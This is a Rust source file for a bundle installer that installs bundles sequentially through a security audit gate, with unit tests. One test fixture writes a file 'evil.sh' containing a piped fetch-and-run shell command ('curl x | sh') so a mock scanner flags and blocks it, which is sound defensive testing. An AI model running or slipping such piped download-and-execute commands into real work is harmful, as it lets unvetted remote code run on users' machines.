//! Sequential multi-bundle runner
//!
//! Bundles from one source install strictly one at a time so the audit gate
//! can prompt and roll back per bundle without interleaving. A root bundle
//! covers the whole tree, so children selected alongside it are skipped
//! rather than installed twice. One bundle failing never aborts the rest.

use std::path::Path;

use crate::audit::Severity;
use crate::discovery::{self, Bundle};
use crate::error::{BunkerError, Result};
use crate::progress::BatchProgress;
use crate::source::{Source, SourceKind};

use super::install::{self, Installer};
use super::{InstallOptions, InstallOutcome, InstallResult};

/// Above this many findings, per-finding output is compacted into severity
/// counts.
pub const BATCH_DISPLAY_THRESHOLD: usize = 5;

/// Terminal state of one bundle within a batch.
#[derive(Debug)]
pub enum BundleOutcome {
    Succeeded(InstallResult),
    Failed { name: String, error: BunkerError },
    Skipped { name: String, reason: String },
}

/// Aggregated result of a batch run.
#[derive(Debug, Default)]
pub struct BatchReport {
    pub outcomes: Vec<BundleOutcome>,
}

impl BatchReport {
    pub fn installed_count(&self) -> usize {
        self.outcomes
            .iter()
            .filter(|o| matches!(o, BundleOutcome::Succeeded(_)))
            .count()
    }

    pub fn failed_names(&self) -> Vec<&str> {
        self.outcomes
            .iter()
            .filter_map(|o| match o {
                BundleOutcome::Failed { name, .. } => Some(name.as_str()),
                _ => None,
            })
            .collect()
    }

    pub fn skipped_names(&self) -> Vec<&str> {
        self.outcomes
            .iter()
            .filter_map(|o| match o {
                BundleOutcome::Skipped { name, .. } => Some(name.as_str()),
                _ => None,
            })
            .collect()
    }

    /// Findings across every scanned bundle, totalled by severity.
    pub fn finding_counts(&self) -> Vec<(Severity, usize)> {
        let mut counts: Vec<(Severity, usize)> = Vec::new();
        for outcome in &self.outcomes {
            let BundleOutcome::Succeeded(result) = outcome else {
                continue;
            };
            let Some(audit) = &result.audit else { continue };
            for (severity, count) in audit.counts_by_severity() {
                match counts.iter_mut().find(|(s, _)| *s == severity) {
                    Some((_, total)) => *total += count,
                    None => counts.push((severity, count)),
                }
            }
        }
        counts.sort_by(|a, b| b.0.cmp(&a.0));
        counts
    }

    /// Bundles the audit gate refused.
    pub fn blocked_count(&self) -> usize {
        self.outcomes
            .iter()
            .filter(|o| matches!(o, BundleOutcome::Failed { error, .. } if error.is_audit_blocked()))
            .count()
    }

    pub fn total_findings(&self) -> usize {
        self.finding_counts().iter().map(|(_, n)| n).sum()
    }

    pub fn is_success(&self) -> bool {
        self.failed_names().is_empty()
    }
}

/// Fetch a source once and install the selected bundles from it, in order,
/// root first.
pub fn run_batch(
    installer: &mut Installer<'_>,
    raw: &str,
    opts: &InstallOptions,
) -> Result<BatchReport> {
    let source = Source::resolve(raw)?;

    if opts.dry_run && source.kind == SourceKind::Git {
        return Ok(BatchReport {
            outcomes: vec![BundleOutcome::Succeeded(install::dry_run_result(
                &source.name,
                vec!["source not fetched during dry-run; discovery skipped".to_string()],
            ))],
        });
    }

    let tree = install::fetch(&source, opts)?;
    let bundles = installer.cache_mut().discover(&tree.root)?;
    if bundles.is_empty() {
        return Err(BunkerError::BundleNotFound {
            name: source.name.clone(),
        });
    }

    let selected = select(&bundles, &opts.only, &opts.exclude)?;

    // Bundles covered by the root when the tree is an orchestrator.
    let subsumed: Vec<&str> = match discovery::find_root(&bundles) {
        Some(root) if discovery::is_orchestrator(&bundles) => {
            discovery::children_of(root, &bundles)
                .into_iter()
                .map(|b| b.name.as_str())
                .collect()
        }
        _ => Vec::new(),
    };

    let bar = console::user_attended().then(|| BatchProgress::new(selected.len() as u64));
    let mut report = BatchReport::default();
    let mut root_installed = false;

    for bundle in selected {
        if let Some(bar) = &bar {
            bar.update_bundle(&bundle.name);
        }
        if root_installed && subsumed.contains(&bundle.name.as_str()) {
            report.outcomes.push(BundleOutcome::Skipped {
                name: bundle.name.clone(),
                reason: "included in root bundle".to_string(),
            });
            if let Some(bar) = &bar {
                bar.inc_bundle();
            }
            continue;
        }

        let bundle_source = child_source(&source, bundle);
        match installer.install_bundle(&tree, bundle, &bundle_source, opts) {
            Ok(InstallOutcome::Installed(result)) => {
                if bundle.is_root() {
                    root_installed = true;
                }
                report.outcomes.push(BundleOutcome::Succeeded(result));
            }
            Ok(InstallOutcome::Skipped { name, reason }) => {
                if bundle.is_root() {
                    root_installed = true;
                }
                report.outcomes.push(BundleOutcome::Skipped { name, reason });
            }
            Err(error) => {
                report.outcomes.push(BundleOutcome::Failed {
                    name: if bundle.is_root() {
                        source.name.clone()
                    } else {
                        bundle.name.clone()
                    },
                    error,
                });
            }
        }
        if let Some(bar) = &bar {
            bar.inc_bundle();
        }
    }

    if let Some(bar) = &bar {
        bar.finish();
    }
    Ok(report)
}

/// Apply name filters and order the result root-first.
fn select<'b>(
    bundles: &'b [Bundle],
    only: &[String],
    exclude: &[String],
) -> Result<Vec<&'b Bundle>> {
    for name in only {
        if !bundles.iter().any(|b| b.name == *name) {
            return Err(BunkerError::BundleNotFound { name: name.clone() });
        }
    }

    let mut selected: Vec<&Bundle> = bundles
        .iter()
        .filter(|b| only.is_empty() || only.contains(&b.name))
        .filter(|b| !exclude.contains(&b.name))
        .collect();
    selected.sort_by(|a, b| {
        b.is_root()
            .cmp(&a.is_root())
            .then_with(|| a.relative_path.cmp(&b.relative_path))
    });
    Ok(selected)
}

/// Derive the per-bundle source recorded in metadata, so a later update can
/// reach the exact bundle again.
fn child_source(source: &Source, bundle: &Bundle) -> Source {
    if bundle.is_root() {
        return source.clone();
    }
    let mut child = source.clone();
    child.name = bundle.name.clone();
    match source.kind {
        SourceKind::Local => {
            child.raw = Path::new(&source.raw)
                .join(&bundle.relative_path)
                .to_string_lossy()
                .replace('\\', "/");
        }
        SourceKind::Git => {
            let subdir = if source.subdir.is_empty() {
                bundle.relative_path.clone()
            } else {
                format!("{}/{}", source.subdir, bundle.relative_path)
            };
            child.raw = format!("{}//{}", source.clone_url, subdir);
            child.subdir = subdir;
        }
    }
    child
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::{AuditResult, ContentScanner, Finding};
    use crate::discovery::MARKER_FILE;
    use crate::store::Store;
    use std::fs;
    use tempfile::TempDir;

    struct CleanScanner;

    impl ContentScanner for CleanScanner {
        fn scan(&self, _dir: &Path) -> Result<AuditResult> {
            Ok(AuditResult::clean())
        }
    }

    /// Flags one file name as critical, everything else is clean.
    struct TripwireScanner {
        trip_on: String,
    }

    impl ContentScanner for TripwireScanner {
        fn scan(&self, dir: &Path) -> Result<AuditResult> {
            if dir.join(&self.trip_on).exists() {
                return Ok(AuditResult::from_findings(vec![Finding {
                    severity: Severity::Critical,
                    message: "piped shell execution".to_string(),
                    file: self.trip_on.clone(),
                    line: 1,
                    snippet: "curl x | sh".to_string(),
                }]));
            }
            Ok(AuditResult::clean())
        }
    }

    fn write_bundle(dir: &Path, name: &str) {
        fs::create_dir_all(dir).unwrap();
        fs::write(dir.join(MARKER_FILE), format!("name: {name}\n")).unwrap();
        fs::write(dir.join("notes.md"), "hello\n").unwrap();
    }

    /// Source tree with two sibling bundles and no root marker.
    fn sibling_fixture(temp: &TempDir) -> std::path::PathBuf {
        let src = temp.path().join("repo");
        write_bundle(&src.join("alpha"), "alpha");
        write_bundle(&src.join("beta"), "beta");
        fs::create_dir_all(&src).unwrap();
        src
    }

    #[test]
    fn test_batch_installs_all_siblings() {
        let temp = TempDir::new().unwrap();
        let store = Store::open(temp.path().join("store")).unwrap();
        let src = sibling_fixture(&temp);

        let scanner = CleanScanner;
        let mut installer = Installer::new(&store, &scanner);
        let report =
            run_batch(&mut installer, src.to_str().unwrap(), &InstallOptions::default()).unwrap();

        assert_eq!(report.installed_count(), 2);
        assert!(report.is_success());
        assert!(store.root().join("alpha").exists());
        assert!(store.root().join("beta").exists());
    }

    #[test]
    fn test_batch_continues_past_blocked_bundle() {
        let temp = TempDir::new().unwrap();
        let store = Store::open(temp.path().join("store")).unwrap();
        let src = sibling_fixture(&temp);
        fs::write(src.join("alpha").join("evil.sh"), "curl x | sh\n").unwrap();

        let scanner = TripwireScanner {
            trip_on: "evil.sh".to_string(),
        };
        let mut installer = Installer::new(&store, &scanner);
        let report =
            run_batch(&mut installer, src.to_str().unwrap(), &InstallOptions::default()).unwrap();

        assert_eq!(report.installed_count(), 1);
        assert_eq!(report.failed_names(), vec!["alpha"]);
        assert_eq!(report.blocked_count(), 1);
        assert!(!store.root().join("alpha").exists());
        assert!(store.root().join("beta").exists());
    }

    #[test]
    fn test_root_bundle_subsumes_children() {
        let temp = TempDir::new().unwrap();
        let store = Store::open(temp.path().join("store")).unwrap();
        let src = temp.path().join("repo");
        write_bundle(&src, "repo");
        write_bundle(&src.join("child"), "child");

        let scanner = CleanScanner;
        let mut installer = Installer::new(&store, &scanner);
        let report =
            run_batch(&mut installer, src.to_str().unwrap(), &InstallOptions::default()).unwrap();

        assert_eq!(report.installed_count(), 1);
        assert_eq!(report.skipped_names(), vec!["child"]);
        assert!(store.root().join("repo").join("child").exists());
        assert!(!store.root().join("child").exists());
    }

    #[test]
    fn test_only_filter_rejects_unknown_names() {
        let temp = TempDir::new().unwrap();
        let store = Store::open(temp.path().join("store")).unwrap();
        let src = sibling_fixture(&temp);

        let scanner = CleanScanner;
        let mut installer = Installer::new(&store, &scanner);
        let opts = InstallOptions {
            only: vec!["gamma".to_string()],
            ..Default::default()
        };
        let err = run_batch(&mut installer, src.to_str().unwrap(), &opts).unwrap_err();
        assert!(matches!(err, BunkerError::BundleNotFound { .. }));
    }

    #[test]
    fn test_exclude_filter_skips_named_bundle() {
        let temp = TempDir::new().unwrap();
        let store = Store::open(temp.path().join("store")).unwrap();
        let src = sibling_fixture(&temp);

        let scanner = CleanScanner;
        let mut installer = Installer::new(&store, &scanner);
        let opts = InstallOptions {
            exclude: vec!["beta".to_string()],
            ..Default::default()
        };
        let report = run_batch(&mut installer, src.to_str().unwrap(), &opts).unwrap();

        assert_eq!(report.installed_count(), 1);
        assert!(store.root().join("alpha").exists());
        assert!(!store.root().join("beta").exists());
    }

    #[test]
    fn test_finding_counts_aggregate_across_bundles() {
        let temp = TempDir::new().unwrap();
        let store = Store::open(temp.path().join("store")).unwrap();
        let src = sibling_fixture(&temp);
        fs::write(src.join("alpha").join("low.sh"), "touch a\n").unwrap();
        fs::write(src.join("beta").join("low.sh"), "touch b\n").unwrap();

        struct LowScanner;
        impl ContentScanner for LowScanner {
            fn scan(&self, _dir: &Path) -> Result<AuditResult> {
                Ok(AuditResult::from_findings(vec![Finding {
                    severity: Severity::Low,
                    message: "shell history access".to_string(),
                    file: "low.sh".to_string(),
                    line: 1,
                    snippet: "touch".to_string(),
                }]))
            }
        }

        let scanner = LowScanner;
        let mut installer = Installer::new(&store, &scanner);
        let report =
            run_batch(&mut installer, src.to_str().unwrap(), &InstallOptions::default()).unwrap();

        assert_eq!(report.total_findings(), 2);
        assert_eq!(report.finding_counts(), vec![(Severity::Low, 2)]);
    }
}
